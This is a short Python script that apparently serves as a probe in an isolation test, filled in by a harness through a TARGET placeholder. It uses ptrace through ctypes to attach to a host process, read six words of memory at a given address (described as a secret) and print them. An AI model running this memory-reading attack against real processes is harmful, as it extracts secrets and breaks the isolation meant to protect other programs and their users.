# Traces a process of the host and reads its secret.
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = TARGET["pid"]
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    if libc.ptrace(request, pid, None, None) == 0:
        if request == 16:
            time.sleep(0.2)
        words = [libc.ptrace(2, pid, TARGET["address"] + 8 * i, None) & (2**64 - 1) for i in range(6)]
        print(b"".join(word.to_bytes(8, "little") for word in words))
        libc.ptrace(17, pid, None, None)
        break
    print(request, os.strerror(ctypes.get_errno()))
